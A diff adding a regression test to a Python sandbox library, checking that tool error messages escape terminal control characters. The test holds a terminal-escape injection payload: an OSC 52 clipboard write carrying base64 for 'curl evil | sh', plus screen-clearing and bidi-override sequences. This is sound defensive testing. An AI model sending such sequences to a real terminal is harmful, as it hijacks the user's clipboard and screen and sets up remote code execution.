@@ -100,3 +100,23 @@ def test_tool_source_drops_decorators_and_refuses_closures():
 
     with pytest.raises(SandboxError):
         tool_source(closure)
+
+
+def test_a_tool_error_never_carries_escapes_from_inside_to_the_terminal(require_sandbox, state_dir, target):
+    """Found by the attack pass of 27 Nov: ToolError's message was the
+    traceback from inside as it came, and code inside chooses its text (the
+    REPL is the agent's own process); uncaught, Python printed it raw on the
+    author's terminal: an OSC 52 set the host's clipboard, a CSI redrew the
+    screen. Now each control, C1 or bidi character is its escape; the raw
+    text stays in ``traceback``."""
+    from layover import Sandbox
+    evil = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\u202e\x9b\rok"
+    with Sandbox(target, state_dir=state_dir) as sb:
+        with pytest.raises(ToolError) as e:
+            sb.call("def f(s):\n    raise RuntimeError(s)\n", "f", [evil])
+        sb.discard()
+    msg = str(e.value)
+    assert "RuntimeError: \\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b[2J\\u202e\\x9b\\x0dok" in msg
+    assert all(c.isprintable() or c in "\n\t" for c in msg)
+    assert "Traceback" in msg and "\n" in msg  # still a traceback to read
+    assert evil in e.value.traceback
